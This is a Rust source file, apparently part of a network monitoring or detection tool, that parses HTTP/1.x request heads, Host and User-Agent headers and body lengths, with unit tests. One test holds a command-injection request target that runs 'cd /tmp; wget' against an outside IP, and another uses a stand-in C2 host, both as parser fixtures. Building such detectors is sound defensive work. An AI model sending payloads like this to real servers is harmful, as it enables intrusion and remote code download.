//! HTTP/1.x requests: method, target, `Host`, `User-Agent`, and the body length that tells
//! where the next request of a keep-alive or pipelined connection starts.
//!
//! ```text
//! request-line = method SP request-target SP HTTP-version CRLF      (RFC 9112 3)
//! request-target = origin-form "/p?q" | absolute-form "http://h:p/x" | authority-form "h:p"
//! ```
//! A request is recognised by its request line, on any port. Header names are compared
//! without regard to case; bare LF line ends are accepted (as servers do).
//!
//! Limits: request heads longer than [`MAX_HEAD_LEN`] are given up ([`Parse::TooLong`]);
//! header values are borrowed, never copied.

/// Longest request head (request line and headers) we wait for: Apache's default limit is
/// 8190 bytes per line and 100 lines; 16 KiB covers real clients with room.
pub const MAX_HEAD_LEN: usize = 16 * 1024;
/// Longest method token accepted.
const MAX_METHOD_LEN: usize = 16;

const METHODS: &[&[u8]] = &[
    b"GET",
    b"POST",
    b"HEAD",
    b"PUT",
    b"DELETE",
    b"OPTIONS",
    b"CONNECT",
    b"TRACE",
    b"PATCH",
    b"PROPFIND",
    b"PROPPATCH",
    b"MKCOL",
    b"COPY",
    b"MOVE",
    b"LOCK",
    b"UNLOCK",
    b"SEARCH",
    b"M-SEARCH",
    b"NOTIFY",
    b"SUBSCRIBE",
];

/// One request head.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Request<'a> {
    /// Method token.
    pub method: &'a [u8],
    /// Request target as sent.
    pub target: &'a [u8],
    /// Protocol version (`HTTP/1.1`).
    pub version: &'a [u8],
    /// The `Host` header value, as sent (may carry a port).
    pub host_header: Option<&'a [u8]>,
    /// `User-Agent` value.
    pub user_agent: Option<&'a [u8]>,
    /// `Content-Length`, when present and valid.
    pub content_length: Option<u64>,
    /// `Transfer-Encoding: chunked`.
    pub chunked: bool,
    /// Bytes of the head, blank line included: the body starts here.
    pub head_len: usize,
}

impl<'a> Request<'a> {
    /// The host of an absolute-form target (`http://host:port/…`) or of a CONNECT target
    /// (`host:port`), with its port.
    pub fn target_authority(&self) -> Option<&'a [u8]> {
        if self.method == b"CONNECT" {
            return Some(self.target);
        }
        let t = self.target;
        let scheme_end = t.windows(3).position(|w| w == b"://")?;
        if scheme_end == 0 || !t[..scheme_end].iter().all(|b| b.is_ascii_alphabetic()) {
            return None;
        }
        let rest = &t[scheme_end + 3..];
        let end = rest
            .iter()
            .position(|&b| b == b'/' || b == b'?' || b == b'#')
            .unwrap_or(rest.len());
        let authority = &rest[..end];
        let authority = match authority.iter().rposition(|&b| b == b'@') {
            Some(at) => &authority[at + 1..],
            None => authority,
        };
        (!authority.is_empty()).then_some(authority)
    }

    /// Path and query of the target (for URL indicators): the origin-form target, or the part
    /// of an absolute-form target after its authority.
    pub fn path(&self) -> &'a [u8] {
        let t = self.target;
        if t.first() == Some(&b'/') {
            return t;
        }
        if let Some(scheme_end) = t.windows(3).position(|w| w == b"://") {
            let rest = &t[scheme_end + 3..];
            if let Some(slash) = rest.iter().position(|&b| b == b'/') {
                return &rest[slash..];
            }
        }
        b"/"
    }
}

/// Split `host[:port]` or `[v6]:port` into the host and the port.
pub fn split_host_port(authority: &[u8]) -> (&[u8], Option<u16>) {
    if authority.first() == Some(&b'[') {
        if let Some(close) = authority.iter().position(|&b| b == b']') {
            let port = authority
                .get(close + 1..)
                .and_then(|r| r.strip_prefix(b":"))
                .and_then(parse_port);
            return (&authority[1..close], port);
        }
        return (authority, None);
    }
    match authority.iter().rposition(|&b| b == b':') {
        Some(colon) if !authority[..colon].contains(&b':') => {
            (&authority[..colon], parse_port(&authority[colon + 1..]))
        }
        _ => (authority, None),
    }
}

fn parse_port(b: &[u8]) -> Option<u16> {
    std::str::from_utf8(b).ok()?.parse().ok()
}

/// Result of looking at the bytes where a request should start.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Parse<'a> {
    /// A request line has begun but the head is not complete.
    NeedMore,
    /// These bytes do not start a request.
    NotRequest,
    /// The head is longer than [`MAX_HEAD_LEN`].
    TooLong,
    /// A complete head.
    Request(Request<'a>),
}

/// The bytes a method starts with.
const METHOD_FIRST_BYTES: [bool; 256] = {
    let mut first = [false; 256];
    let mut i = 0;
    while i < METHODS.len() {
        first[METHODS[i][0] as usize] = true;
        i += 1;
    }
    first
};

/// True when `buf` starts with a known method and a space, or could still become one.
pub fn could_start_request(buf: &[u8]) -> bool {
    // Most payloads are no request, and their first byte already says so: no comparison
    // with each of the 20 methods (a `memcmp` call each; 1.4 per packet of the mix).
    buf.first()
        .is_some_and(|&b| METHOD_FIRST_BYTES[usize::from(b)])
        && METHODS.iter().any(|m| {
            if buf.len() > m.len() {
                buf.starts_with(m) && buf[m.len()] == b' '
            } else {
                m.starts_with(buf)
            }
        })
}

/// Parse the request head at the start of `buf`.
pub fn parse_request(buf: &[u8]) -> Parse<'_> {
    if !could_start_request(buf) {
        return Parse::NotRequest;
    }
    let Some(line_end) = find_line_end(buf) else {
        return if buf.len() > MAX_HEAD_LEN {
            Parse::TooLong
        } else {
            Parse::NeedMore
        };
    };
    let line = trim_cr(&buf[..line_end]);
    // The method ends at the first space and the version starts after the last one: a target
    // with unencoded spaces (common in attack traffic) stays one target, as servers read it.
    let (Some(first), Some(last)) = (
        line.iter().position(|&b| b == b' '),
        line.iter().rposition(|&b| b == b' '),
    ) else {
        return Parse::NotRequest;
    };
    let (method, version) = (&line[..first], &line[last + 1..]);
    let target = if last > first {
        &line[first + 1..last]
    } else {
        &line[..0]
    };
    if method.len() > MAX_METHOD_LEN || target.is_empty() || !version.starts_with(b"HTTP/") {
        return Parse::NotRequest;
    }
    let mut req = Request {
        method,
        target,
        version,
        ..Request::default()
    };
    let mut pos = line_end + 1;
    loop {
        let Some(rel_end) = find_line_end(&buf[pos..]) else {
            return if buf.len() > MAX_HEAD_LEN {
                Parse::TooLong
            } else {
                Parse::NeedMore
            };
        };
        let line = trim_cr(&buf[pos..pos + rel_end]);
        pos += rel_end + 1;
        if pos > MAX_HEAD_LEN {
            return Parse::TooLong;
        }
        if line.is_empty() {
            req.head_len = pos;
            return Parse::Request(req);
        }
        let Some(colon) = line.iter().position(|&b| b == b':') else {
            continue;
        };
        let (name, value) = (&line[..colon], trim(&line[colon + 1..]));
        if name.eq_ignore_ascii_case(b"host") {
            req.host_header.get_or_insert(value);
        } else if name.eq_ignore_ascii_case(b"user-agent") {
            req.user_agent.get_or_insert(value);
        } else if name.eq_ignore_ascii_case(b"content-length") {
            req.content_length = std::str::from_utf8(value).ok().and_then(|v| v.parse().ok());
        } else if name.eq_ignore_ascii_case(b"transfer-encoding") {
            req.chunked = value.windows(7).any(|w| w.eq_ignore_ascii_case(b"chunked"));
        }
    }
}

/// Offset of the next place in `buf` where a line starts with a request line (a known
/// method, a space, and ` HTTP/` on the same line), for resynchronising after a gap.
pub fn find_request_start(buf: &[u8]) -> Option<usize> {
    let mut start = 0;
    loop {
        let rest = &buf[start..];
        if could_start_request(rest) {
            match find_line_end(rest) {
                Some(end) if rest[..end].windows(6).any(|w| w == b" HTTP/") => return Some(start),
                None if rest.len() < 256 => return Some(start), // may complete with more bytes
                _ => {}
            }
        }
        start += rest.iter().position(|&b| b == b'\n')? + 1;
    }
}

fn find_line_end(buf: &[u8]) -> Option<usize> {
    buf.iter().position(|&b| b == b'\n')
}

fn trim_cr(line: &[u8]) -> &[u8] {
    line.strip_suffix(b"\r").unwrap_or(line)
}

fn trim(v: &[u8]) -> &[u8] {
    let start = v
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .unwrap_or(v.len());
    let end = v
        .iter()
        .rposition(|b| !b.is_ascii_whitespace())
        .map_or(start, |e| e + 1);
    &v[start..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(buf: &[u8]) -> Request<'_> {
        match parse_request(buf) {
            Parse::Request(r) => r,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn host_agent_and_body_length() {
        let r = req(b"POST /gate.php HTTP/1.1\r\nHOST: C2.example:8080\r\nUser-Agent: x\r\nContent-Length: 5\r\n\r\nhello");
        assert_eq!(r.method, b"POST");
        assert_eq!(r.host_header, Some(&b"C2.example:8080"[..]));
        assert_eq!(
            split_host_port(r.host_header.unwrap()),
            (&b"C2.example"[..], Some(8080))
        );
        assert_eq!(r.user_agent, Some(&b"x"[..]));
        assert_eq!(r.content_length, Some(5));
        assert_eq!(r.head_len, 84);
    }

    #[test]
    fn a_target_with_spaces_is_one_target() {
        let r = req(
            b"GET /shell?cd+/tmp;wget+ http://192.0.2.1/x HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n",
        );
        assert_eq!(r.target, b"/shell?cd+/tmp;wget+ http://192.0.2.1/x");
        assert_eq!(r.version, b"HTTP/1.1");
        assert_eq!(parse_request(b"GET HTTP/1.1\r\n\r\n"), Parse::NotRequest);
    }

    #[test]
    fn absolute_and_connect_targets() {
        let r = req(b"GET http://user@proxy.example:3128/a?b HTTP/1.0\n\n");
        assert_eq!(r.target_authority(), Some(&b"proxy.example:3128"[..]));
        assert_eq!(r.path(), b"/a?b");
        let r = req(b"CONNECT apache.org:443 HTTP/1.1\r\n\r\n");
        assert_eq!(
            split_host_port(r.target_authority().unwrap()),
            (&b"apache.org"[..], Some(443))
        );
        assert_eq!(split_host_port(b"[::1]:8000"), (&b"::1"[..], Some(8000)));
        assert_eq!(split_host_port(b"::1"), (&b"::1"[..], None));
    }

    #[test]
    fn partial_other_and_too_long() {
        assert_eq!(parse_request(b"GE"), Parse::NeedMore);
        assert_eq!(parse_request(b"GET / HTTP/1.1\r\nHost: a"), Parse::NeedMore);
        assert_eq!(parse_request(b"HTTP/1.1 200 OK\r\n\r\n"), Parse::NotRequest);
        assert_eq!(parse_request(b"\x16\x03\x01"), Parse::NotRequest);
        let mut long = b"GET / HTTP/1.1\r\n".to_vec();
        long.resize(MAX_HEAD_LEN + 10, b'a');
        assert_eq!(parse_request(&long), Parse::TooLong);
    }

    #[test]
    fn resync_finds_the_next_request_line() {
        let buf = b"xx body bytes\r\nGET is not here\r\nPOST /x HTTP/1.1\r\nHost: a\r\n\r\n";
        let at = find_request_start(buf).unwrap();
        assert!(buf[at..].starts_with(b"POST /x"));
        assert_eq!(find_request_start(b"no requests\r\nhere\r\n"), None);
    }

    /// The first-byte table only says no where comparing with every method says no: random
    /// starts over method letters, spaces and other bytes, every method and each prefix.
    #[test]
    fn could_start_request_is_the_method_comparison() {
        let by_comparison = |buf: &[u8]| {
            !buf.is_empty()
                && METHODS.iter().any(|m| match buf.len() > m.len() {
                    true => buf.starts_with(m) && buf[m.len()] == b' ',
                    false => m.starts_with(buf),
                })
        };
        let mut cases: Vec<Vec<u8>> = Vec::new();
        for m in METHODS {
            for cut in 0..=m.len() {
                cases.push(m[..cut].to_vec());
            }
            cases.push([*m, b" /"].concat());
            cases.push([*m, b"x"].concat());
        }
        let mut rng = crate::mix::TestRng(0x4e77_9e75);
        let alphabet = b"GETPOSHADLCNMUVKRFIBJ -/\x00\x16\xff";
        for _ in 0..100_000 {
            let len = rng.below(12) as usize;
            cases.push(
                (0..len)
                    .map(|_| alphabet[rng.below(alphabet.len() as u64) as usize])
                    .collect(),
            );
        }
        let mut yes = 0;
        for case in &cases {
            assert_eq!(could_start_request(case), by_comparison(case), "{case:?}");
            yes += usize::from(by_comparison(case));
        }
        assert!(
            yes > 100,
            "only {yes} of {} could start a request",
            cases.len()
        );
    }
}
